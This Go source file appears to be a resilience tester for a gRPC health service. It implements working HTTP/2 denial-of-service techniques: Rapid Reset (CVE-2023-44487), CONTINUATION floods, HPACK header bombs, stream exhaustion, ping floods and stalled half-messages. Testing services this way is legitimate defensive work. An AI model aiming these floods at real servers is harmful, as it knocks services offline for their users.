//go:build linux

package main

import (
	"bytes"
	"context"
	"fmt"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// withFramer opens a connection to the health port, begins HTTP/2, has frames written
// by do, and closes it. It reads on in the background, without which nobody goes
// on to be served.
func (s *stranger) withFramer(ctx context.Context, do func(context.Context, *http2.Framer) error) error {
	conn, err := s.open(ctx, s.Health)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	return do(ctx, framer)
}

// withFramerAgain does so with one connection after another, until it was done often enough.
func (s *stranger) withFramerAgain(ctx context.Context, do func(context.Context, *http2.Framer) error) error {
	return s.again(ctx, func(ctx context.Context) error { return s.withFramer(ctx, do) })
}

// request is the header of a call to the health service.
func request(method string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/grpc.health.v1.Health/" + method},
		{Name: ":authority", Value: "scaler"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		f.Sensitive = true // never in the table, so that each request is the same
		_ = e.WriteField(f)
	}
	return b.Bytes()
}

// emptyMessage is a message of gRPC's without content.
var emptyMessage = make([]byte, 5)

// watchStreams opens as many as it can on each connection, whatever it is allowed.
func (s *stranger) watchStreams(ctx context.Context) error {
	return s.withFramerAgain(ctx, s.watchStreamsOn)
}

func (s *stranger) watchStreamsOn(ctx context.Context, framer *http2.Framer) error {
	block := request("Watch")
	for i := range s.Count {
		id := uint32(2*i + 1)
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		if err := framer.WriteData(id, true, emptyMessage); err != nil {
			return err
		}
		s.done.Add(1)
	}
	<-ctx.Done()
	return nil
}

// rapidResets takes each stream back at once (CVE-2023-44487).
func (s *stranger) rapidResets(ctx context.Context) error {
	return s.withFramerAgain(ctx, s.rapidResetsOn)
}

func (s *stranger) rapidResetsOn(_ context.Context, framer *http2.Framer) error {
	block := request("Watch")
	for i := range s.Count {
		id := uint32(2*i + 1)
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		if err := framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		s.done.Add(1)
	}
	return nil
}

func (s *stranger) pings(ctx context.Context) error { return s.withFramerAgain(ctx, s.pingsOn) }

func (s *stranger) pingsOn(_ context.Context, framer *http2.Framer) error {
	for range s.Count {
		if err := framer.WritePing(false, [8]byte{}); err != nil {
			return err
		}
		if err := framer.WriteSettings(); err != nil {
			return err
		}
		s.done.Add(1)
	}
	return nil
}

// endlessHeaders continues one request's header for ever.
func (s *stranger) endlessHeaders(ctx context.Context) error {
	return s.withFramerAgain(ctx, s.endlessHeadersOn)
}

func (s *stranger) endlessHeadersOn(_ context.Context, framer *http2.Framer) error {
	block := request("Watch")
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}); err != nil {
		return err
	}
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := range 400 {
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: "yyyyyyyyyyyyyyyy", Sensitive: true})
	}
	for range s.Count {
		if err := framer.WriteContinuation(1, false, b.Bytes()); err != nil {
			return err
		}
		s.done.Add(1)
	}
	return nil
}

// headerBombs name one large field of the table a thousand times in each request.
func (s *stranger) headerBombs(ctx context.Context) error {
	return s.withFramerAgain(ctx, s.headerBombsOn)
}

func (s *stranger) headerBombsOn(ctx context.Context, framer *http2.Framer) error {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	field := hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("y"), 4000))}
	_ = e.WriteField(field)
	first := append(request("Watch"), b.Bytes()...)
	b.Reset()
	for range 4000 {
		_ = e.WriteField(field)
	}
	// An index of the table is the same in every request.
	bomb := append(request("Watch"), b.Bytes()...)
	for i := range s.Count {
		id := uint32(2*i + 1)
		block := bomb
		if i == 0 {
			block = first
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		s.done.Add(1)
	}
	<-ctx.Done()
	return nil
}

// halfMessages announce 4 MB on each stream and send what the window takes.
func (s *stranger) halfMessages(ctx context.Context) error {
	part := append([]byte{0, 0, 0x3f, 0xff, 0xff}, make([]byte, 15<<10)...)
	half := func(ctx context.Context, framer *http2.Framer) error {
		for i := range s.Count / 16 {
			id := uint32(2*i + 1)
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request("Check"), EndHeaders: true}); err != nil {
				return err
			}
			if err := framer.WriteData(id, false, part); err != nil {
				return err
			}
			s.done.Add(1)
		}
		<-ctx.Done()
		return nil
	}
	return s.many(ctx, 16, func(ctx context.Context, _ int) error { return s.withFramer(ctx, half) })
}
